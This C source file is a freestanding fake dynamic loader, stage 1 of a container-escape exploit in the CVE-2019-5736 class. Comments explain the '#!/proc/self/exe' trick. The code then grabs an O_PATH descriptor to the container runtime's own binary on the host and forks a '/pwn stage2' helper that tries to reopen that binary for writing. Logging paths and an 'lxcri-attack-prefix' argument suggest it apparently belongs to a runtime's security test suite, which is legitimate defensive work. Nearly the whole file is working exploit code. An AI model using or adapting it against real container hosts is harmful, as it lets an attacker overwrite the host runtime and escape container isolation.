// A fake /lib64/ld-linux-x86-64.so.2 for an image (the CVE-2019-5736 class).
// When a runtime process execve()s an image file starting "#!/proc/self/exe",
// the kernel runs the runtime's own (dynamically linked) binary again, with
// this file, from the image, as its program interpreter: so this code runs in
// the container while /proc/self/exe is the runtime's binary. It keeps an
// O_PATH fd to it at fd 100, forks, and the child execs /pwn (tool.c stage2),
// which keeps trying to reopen that fd for writing once the runtime is gone.
// Freestanding (no libc, no relocations): built with
//   gcc -O0 -static-pie -nostdlib -fPIE -fno-stack-protector -o ld.so fake-ld.c
typedef long L;
static L sys6(L n, L a, L b, L c, L d, L e, L f) {
  L r;
  register L r10 __asm__("r10") = d;
  register L r8 __asm__("r8") = e;
  register L r9 __asm__("r9") = f;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
  return r;
}
#define SYS_write 1
#define SYS_open 2
#define SYS_dup2 33
#define SYS_fork 57
#define SYS_execve 59
#define SYS_exit_group 231
#define SYS_readlink 89
#define SYS_setsid 112
#define O_WRONLY 01
#define O_CREAT 0100
#define O_APPEND 02000
#define O_PATH 010000000

static L len(const char *s) {
  L n = 0;
  while (s[n]) n++;
  return n;
}

__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n mov %rsp,%rdi\n and $-16,%rsp\n call cmain\n hlt\n");

void cmain(L *sp) {
  char **envp = (char **)(sp + 1 + sp[0] + 1);
  L log = sys6(SYS_open, (L) "/out/exe-attack.log", O_WRONLY | O_CREAT | O_APPEND, 0666, 0, 0, 0);
  char buf[600];
  const char *pre = "stage1: fake loader runs, /proc/self/exe -> ";
  L p = len(pre);
  for (L i = 0; i < p; i++) buf[i] = pre[i];
  L n = sys6(SYS_readlink, (L) "/proc/self/exe", (L)(buf + p), 500, 0, 0, 0);
  if (n < 0) n = 0;
  buf[p + n] = '\n';
  sys6(SYS_write, log, (L)buf, p + n + 1, 0, 0, 0);
  L fd = sys6(SYS_open, (L) "/proc/self/exe", O_PATH, 0, 0, 0, 0);
  if (fd < 0) {
    const char *m = "stage1: cannot open /proc/self/exe\n";
    sys6(SYS_write, log, (L)m, len(m), 0, 0, 0);
    sys6(SYS_exit_group, 1, 0, 0, 0, 0, 0);
  }
  sys6(SYS_dup2, fd, 100, 0, 0, 0, 0);
  if (sys6(SYS_fork, 0, 0, 0, 0, 0, 0) == 0) {
    sys6(SYS_setsid, 0, 0, 0, 0, 0, 0);
    char *argv[7];
    argv[0] = "/pwn";
    argv[1] = "stage2";
    argv[2] = "/out/exe-attack.log";
    argv[3] = "6";
    argv[4] = "lxcri-attack-prefix";
    argv[5] = 0;
    sys6(SYS_execve, (L) "/pwn", (L)argv, (L)envp, 0, 0, 0);
    const char *m = "stage1: exec /pwn failed\n";
    sys6(SYS_write, log, (L)m, len(m), 0, 0, 0);
    sys6(SYS_exit_group, 127, 0, 0, 0, 0, 0);
  }
  sys6(SYS_exit_group, 0, 0, 0, 0, 0, 0);
}
